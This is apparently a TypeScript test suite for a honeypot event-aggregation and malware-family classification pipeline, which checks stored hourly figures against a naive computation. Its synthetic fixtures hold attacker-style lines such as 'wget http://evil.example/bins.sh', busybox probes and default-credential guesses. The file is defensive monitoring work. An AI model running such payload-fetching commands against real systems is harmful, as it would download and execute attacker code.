import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, it } from 'node:test'
import { Random } from '../../base/random.ts'
import { identifier, sql } from '../../store/events/sql.ts'
import { dimensions, type Dimension } from './dimensions.ts'
import {
  type Asked,
  find,
  type HoneypotStore,
  knowledgeOf,
  naive,
  type Rule,
  type Seen,
  startHoneypotStore,
  storeBatch,
  takeBatchBack,
} from './honeypots.test-support.ts'
import type { HoneypotKnowledge } from './knowledge/assessment.ts'
import {
  asking,
  computedIn,
  type HoneypotReader,
  honeypotReader,
  merged,
  ofResearch,
  partsOf,
} from './reader.ts'
import { refreshHoneypots } from './refresh.ts'
import { honeypotEvent } from './tables.ts'

const timeZone = 'Asia/Taipei'
/** Midnight in Taipei. */
const start = Date.parse('2026-10-01T00:00:00+08:00') / 1000
const day = 86_400
const later = (): number => (start + 30 * day) * 1000

const rules: Rule[] = [
  { word: 'BUSYBOX', family: 'mirai', sort: 'token', weight: 0.4 },
  { word: 'root', family: 'mirai', sort: 'credential', weight: 0.3 },
  { word: 'bins', family: 'mirai', sort: 'url', weight: 0.25 },
  { word: 'redtail', family: 'redtail', sort: 'command', weight: 0.9 },
  { word: 'bins', family: 'gafgyt', sort: 'url', weight: 0.55 },
  { word: 'ffff', family: 'redtail', sort: 'hash', weight: 0.7 },
]
const first = knowledgeOf('first', rules)
/** Takes a verdict back, and finds another. */
const second = knowledgeOf('second', [
  ...rules.filter(({ word }) => word !== 'redtail'),
  { word: 'uname', family: 'scout', sort: 'command', weight: 0.6 },
])

/** Sessions of two days, of one source each; their events come in any batch, so on any shard. */
const sessions = (() => {
  const random = new Random(99)
  return Array.from({ length: 60 }, (_, index) => ({
    session: random.below(6) === 0 ? '' : `s${index}`,
    sourcePort: 1000 + index,
    // Sources ending in 7 scan for research.
    source: random.below(20) === 0 ? '::' : `10.0.${random.below(2)}.${random.below(12)}`,
    sensor: random.pick(['north', 'south', 'west']),
    port: random.pick([22, 23, 445]),
    service: random.pick(['ssh', 'telnet']),
    protocol: random.pick([0, 6, 17, 132]),
    time: start + random.below(2) * day + random.below(3 * 3600),
  }))
})()

function someEvents(random: Random, count: number): Seen[] {
  return Array.from({ length: count }, () => {
    const { time, service, ...session } = random.pick(sessions)
    const at = time + random.pick([0, 10, 600, 3600, 7200, 9000])
    const common = { ...session, time: at, ...(random.below(4) > 0 && { service }) }
    if (random.below(40) === 0) return { ...common, what: 'connect', wrongClock: true } as const
    switch (random.below(8)) {
      case 0:
      case 1:
        return { ...common, what: 'connect' } as const
      case 2:
        return { ...common, what: 'client', client: random.pick(['SSH-2.0-Go', 'SSH-2.0-libssh']) } as const
      case 3:
        return {
          ...common,
          what: 'credential',
          accepted: random.below(2) === 0,
          ...(random.below(5) > 0 && { user: random.pick(['root', 'admin', '', '\u00ff\u00fe']) }),
          ...(random.below(5) > 0 && { password: random.pick(['1234', '', 'x'.repeat(600)]) }),
        } as const
      case 4:
      case 5:
        return {
          ...common,
          what: 'command',
          command: random.pick([
            '/bin/busybox BUSYBOX',
            'wget http://evil.example/bins.sh',
            `wget http://10.9.8.${random.below(3)}/bins.sh dev-router`,
            'curl redtail cve-2024',
            'uname -a',
            `echo ${random.below(5)}`,
            '\u00e4\u0080 \u0001 "quoted" \\',
          ]),
        } as const
      case 6:
        return {
          ...common,
          what: 'file',
          hash: random.pick(['a', 'f', '0']).repeat(64),
          ...(random.below(3) > 0 && { url: random.pick(['http://evil.example/bins.sh', 'tftp odd']) }),
        } as const
      default:
        return {
          ...common,
          what: 'request',
          request: random.pick(['GET /cve-2020 dev-camera', 'POST /']),
        } as const
    }
  })
}

for (const shards of [1, 2]) {
  describe(`what is computed from honeypots' events, on ${shards} shard(s)`, { timeout: 240_000 }, () => {
    let place: HoneypotStore
    let reader: HoneypotReader
    before(async () => {
      place = await startHoneypotStore(shards)
      reader = honeypotReader(place.store, { kind: 'centre' })
    })
    beforeEach(() => place.empty())
    after(() => place.stop())

    const refresh = (
      knowledge: HoneypotKnowledge,
      more: Partial<Parameters<typeof refreshHoneypots>[1]> = {},
    ) =>
      refreshHoneypots(place.store, {
        knowledge,
        timeZone,
        finder: () => Promise.resolve(find),
        now: later,
        ...more,
      })

    const figures = async ({ from, to, research }: Asked) => {
      const ask = asking(reader, [])
      const parts = await partsOf(ask, { from, to, timeZone })
      const rows = await ask<{ dimension: Dimension; value: string; rest: number; figures: unknown[] }>(
        'figures',
        sql`SELECT dimension, hex(value) AS value, is_rest AS rest, [toString(${merged.events}), toString(${merged.sources}), toString(${merged.sensors}), toString(${merged.items}), ${merged.first}, ${merged.last}] AS figures
FROM ${computedIn(reader, parts, ofResearch[research])} AS computed GROUP BY dimension, computed.value, is_rest ORDER BY dimension, value`,
      )
      return { rows, parts }
    }
    const expected = (
      events: readonly Seen[],
      knowledge: HoneypotKnowledge,
      dimension: Dimension,
      asked: Asked,
    ) =>
      [...naive(events, knowledge, dimension, asked)]
        .map(([value, one]) => ({
          dimension,
          value: Buffer.from(value, 'latin1').toString('hex').toUpperCase(),
          rest: 0,
          figures: [
            ...[one.events, one.sources.size, one.sensors.size, one.items.size].map(String),
            ...[one.first, one.last].map((time) => new Date(time * 1000).toISOString().replace('.000', '')),
          ],
        }))
        .sort((a, b) => (a.value < b.value ? -1 : 1))
    /** Long values are cut in the store: compared by their beginning. */
    const cut = <Row extends { value: string }>(rows: readonly Row[]) =>
      rows.map((row) => ({ ...row, value: row.value.slice(0, 960) }))
    const periods: readonly Asked[] = [
      { from: start - day, to: start + 5 * day, research: 'all' },
      { from: start + day, to: start + 2 * day, research: 'without' },
      { from: start + 5 * 3600 + 7, to: start + 2 * day + 3 * 3600 + 11, research: 'all' },
      { from: start, to: start + 3 * day, research: 'only' },
    ]
    const check = async (events: readonly Seen[], knowledge: HoneypotKnowledge) => {
      for (const asked of periods) {
        const { rows } = await figures(asked)
        for (const dimension of Object.keys(dimensions) as Dimension[])
          assert.deepEqual(
            cut(rows.filter((row) => row.dimension === dimension)),
            cut(expected(events, knowledge, dimension, asked)),
            `${dimension} ${JSON.stringify(asked)}`,
          )
      }
    }

    it('is what a slow computation over the same events gives, and is not computed twice', async () => {
      const events = someEvents(new Random(1), 400)
      await storeBatch(place.store, 1n, events)
      const { hours, days, incompleteHours } = await refresh(first)
      assert.ok(hours > 10 && days === 2, `${hours} ${days}`)
      assert.equal(incompleteHours, 0)
      await check(events, first)
      assert.deepEqual(await refresh(first), { hours: 0, events: 0, incompleteHours: 0, days: 0 })
    })

    it('is the same whatever comes late, twice, changed or in parts, and by whatever knowledge', async () => {
      for (const seed of shards === 1 ? [1, 2] : [3]) {
        await place.empty()
        const random = new Random(seed)
        const stored = new Map<bigint, Seen[]>()
        let knowledge = first
        for (let step = 0; step < 8; step++) {
          const batch = BigInt(100 * seed + step)
          const old = random.pick([...stored.keys(), undefined])
          if (old !== undefined && random.below(2) === 0) {
            // Taken back, and sent again otherwise: often with as many events in the same hours.
            const before = stored.get(old)!
            await takeBatchBack(place.store, old)
            stored.delete(old)
            if (random.below(3) > 0) {
              const changed = before.map((seen) =>
                random.below(3) === 0
                  ? seen
                  : {
                      ...seen,
                      ...(seen.command !== undefined && { command: 'curl redtail again' }),
                      ...(seen.password !== undefined && { password: 'another' }),
                    },
              )
              // Under its name, with the same counts: as ingest does after a crash.
              await storeBatch(place.store, old, changed)
              stored.set(old, changed)
            }
          } else {
            const events = someEvents(random, 60)
            await storeBatch(place.store, batch, events)
            stored.set(batch, events)
          }
          if (random.below(4) === 0) knowledge = knowledge === first ? second : first
          const chunk = random.pick([60, 1_000_000])
          if (random.below(3) > 0)
            await Promise.all([
              refresh(knowledge, { chunk }),
              ...(random.below(2) > 0 ? [refresh(knowledge)] : []),
            ])
        }
        await refresh(knowledge)
        await check([...stored.values()].flat(), knowledge)
      }
    })

    it('what is taken back and sent again otherwise is computed anew, though its counts are the same', async () => {
      const command = (text: string): Seen => ({
        time: start + 100,
        sensor: 'north',
        what: 'command',
        session: 's',
        source: '10.0.0.1',
        command: text,
      })
      await storeBatch(place.store, 1n, [command('before')])
      await refresh(first)
      await takeBatchBack(place.store, 1n)
      await storeBatch(place.store, 1n, [command('after')])
      assert.equal((await refresh(first)).hours, 1)
      await check([command('after')], first)
    })

    it('a session over two hours has the reasons of both, wherever and whenever they come', async () => {
      const hour = start + 5 * 3600
      const told = (time: number, text: Partial<Seen>): Seen => ({
        time,
        sensor: 'north',
        what: 'command',
        session: 'long',
        source: '10.0.0.1',
        ...text,
      })
      // Neither is enough alone.
      const events = [
        told(hour + 3590, { command: 'BUSYBOX' }),
        told(hour + 3610, { user: 'root', what: 'credential' }),
      ]
      const families = async () =>
        (await figures(periods[0]!)).rows
          .filter(({ dimension }) => dimension === 'family')
          .map((row) => [Buffer.from(row.value, 'hex').toString(), row.figures[0], row.figures[4]])
      await storeBatch(place.store, 1n, [events[0]!])
      await refresh(first, { chunk: 1 })
      assert.deepEqual(await families(), [])
      await storeBatch(place.store, 2n, [events[1]!])
      await refresh(first, { chunk: 1 })
      await check(events, first)
      assert.deepEqual(await families(), [
        ['mirai', '1', new Date((hour + 3590) * 1000).toISOString().replace('.000', '')],
      ])
      // Something earlier takes the session to its own hour; what is two hours later is another session.
      const earlier = told(hour - 60, { url: 'http://evil.example/bins', what: 'file' })
      await storeBatch(place.store, 3n, [earlier])
      await refresh(first, { chunk: 1 })
      await check([...events, earlier], first)
      assert.deepEqual(await families(), [
        ['gafgyt', '1', new Date((hour - 60) * 1000).toISOString().replace('.000', '')],
      ])
    })

    it('a command whose outcome is told too is one command; an outcome alone is one', async () => {
      const told = (session: string, more: Partial<Seen>): Seen => ({
        time: start + 3600,
        sensor: 'north',
        what: 'command',
        session,
        source: '10.0.0.1',
        command: 'uname',
        ...more,
      })
      await storeBatch(place.store, 1n, [
        told('a', {}),
        told('a', { accepted: false }),
        told('a', { accepted: true, command: 'w' }),
        told('b', { accepted: true }),
      ])
      await refresh(first)
      const commands = (await figures(periods[0]!)).rows
        .filter(({ dimension }) => dimension === 'command')
        .map((row) => [Buffer.from(row.value, 'hex').toString(), row.figures[0]])
      assert.deepEqual(commands, [['uname', '2']])
    })

    it('an hour is computed when all that is counted is stored, and else keeps what it has', async () => {
      const events = someEvents(new Random(5), 40)
      await storeBatch(place.store, 1n, events)
      await refresh(first)
      const more = someEvents(new Random(6), 40)
      await storeBatch(place.store, 2n, more, 'counts')
      const { incompleteHours } = await refresh(first)
      assert.ok(incompleteHours > 0)
      await check(events, first)
      await storeBatch(place.store, 2n, more, 'events')
      assert.equal((await refresh(first)).incompleteHours, 0)
      await check([...events, ...more], first)
      // What retention has taken, another knowledge cannot judge.
      await place.store.command(
        sql`DELETE FROM ${identifier(place.store.localName(honeypotEvent))} WHERE batch = 1`,
        { on: 'every', settings: { lightweight_deletes_sync: '2' } },
      )
      const left = await refresh(second)
      assert.ok(left.incompleteHours > 0)
      const all = (await figures(periods[0]!)).rows.find(({ dimension }) => dimension === 'all')
      const counted = [...events, ...more].filter(
        ({ what, wrongClock }) => what === 'connect' && wrongClock !== true,
      )
      assert.equal(all?.figures[0], String(counted.length))
      // A tenth of the time that it has been so, it is not looked at again.
      const [since, soon, then] = [later(), later() + 600_000, later() + 630_000]
      assert.equal((await refresh(second, { now: () => since })).incompleteHours, left.incompleteHours)
      assert.equal((await refresh(second, { now: () => soon })).incompleteHours, left.incompleteHours)
      assert.equal((await refresh(second, { now: () => then })).incompleteHours, 0)
      assert.equal(
        (await refresh(second, { now: () => soon + 61_000 })).incompleteHours,
        left.incompleteHours,
      )
    })

    it('what is rare in its hour is counted together, exactly', async () => {
      const time = start + 1000
      const events = Array.from({ length: 60 }, (_, index): Seen => ({
        time,
        sensor: 'north',
        what: 'command',
        session: `s${index}`,
        source: `10.1.1.${index % 30}`,
        // c0 four times …
        command: `c${Math.floor(Math.max(0, index - 3))}`,
      }))
      await storeBatch(place.store, 1n, events)
      await refresh(first, { mostValues: 5 })
      const { rows } = await figures(periods[0]!)
      const found = rows.filter(({ dimension }) => dimension === 'command')
      assert.equal(found.length, 6)
      const rest = found.find((row) => row.rest === 1)!
      assert.deepEqual([rest.value, ...rest.figures.slice(0, 4)], ['', '52', '30', '1', '52'])
    })

    it('what was computed before is removed a while after, and never read', async () => {
      const events = someEvents(new Random(7), 40)
      await storeBatch(place.store, 1n, events)
      await refresh(first)
      await refresh(second)
      const rows = async (): Promise<number> => {
        const [row] = await place.store.query<{ generations: number }>(
          sql`SELECT max(held) AS generations FROM (SELECT uniqExact(generation) AS held FROM honeypot_hour GROUP BY start_time)`,
        )
        return row!.generations
      }
      assert.equal(await rows(), 2)
      await check(events, second)
      await refresh(second, { now: () => later() + 7_200_000 })
      assert.equal(await rows(), 1)
      await check(events, second)
    })

    it('of its time only a share goes into what changes all the time', async () => {
      const events = someEvents(new Random(8), 10)
      await storeBatch(place.store, 1n, events)
      const now = (): number => later()
      await refresh(first, { share: 0.1, now })
      await storeBatch(place.store, 2n, events)
      assert.equal((await refresh(first, { share: 0.001, now: () => later() + 1 })).hours, 0)
      assert.ok((await refresh(first, { share: 0.1, now: () => later() + 3_600_000 })).hours > 0)
      await check([...events, ...events], first)
    })
  })
}

it('the family of a session is what verdict() says of all its reasons', { timeout: 240_000 }, async () => {
  const place = await startHoneypotStore(2)
  try {
    const random = new Random(11)
    const sorts = ['token', 'command', 'url', 'credential', 'hash', 'rule'] as const
    const many = Array.from({ length: 60 }, (_, index): Rule => ({
      word: `w${index}.`,
      family: random.pick(['a', 'b', 'ç', '家族']),
      sort: random.pick(sorts),
      // Any weight there is, not only round ones.
      weight: Math.max(1e-9, random.unit() * random.unit()),
    }))
    const knowledge = knowledgeOf('random', many, 0.7)
    const events = Array.from({ length: 1500 }, (_, index): Seen => {
      const session = index % 400
      return {
        time: start + session * 60,
        sensor: `sensor ${session % 3}`,
        what: 'command',
        session: `s${session}`,
        source: `10.0.0.${session % 200}`,
        command: Array.from({ length: random.below(4) }, () => random.pick(many).word).join(' '),
      }
    })
    for (const [index, part] of [events.slice(0, 700), events.slice(700)].entries())
      await storeBatch(place.store, BigInt(index), part)
    await refreshHoneypots(place.store, {
      knowledge,
      timeZone,
      finder: () => Promise.resolve(find),
      now: later,
    })
    const asked = { from: start, to: start + day, research: 'all' } as const
    const expected = [...naive(events, knowledge, 'family', asked)].map(([family, one]) => [
      family,
      one.events,
    ])
    const rows = await place.store.query<{ family: string; sessions: number }>(
      sql`SELECT value AS family, sum(events) AS sessions FROM honeypot_hour WHERE dimension = 'family' GROUP BY family`,
    )
    const found = rows.map(({ family, sessions }) => [family, sessions])
    assert.deepEqual(found.sort(), expected.sort())
    assert.ok(expected.length >= 3, JSON.stringify(expected))
  } finally {
    await place.stop()
  }
})
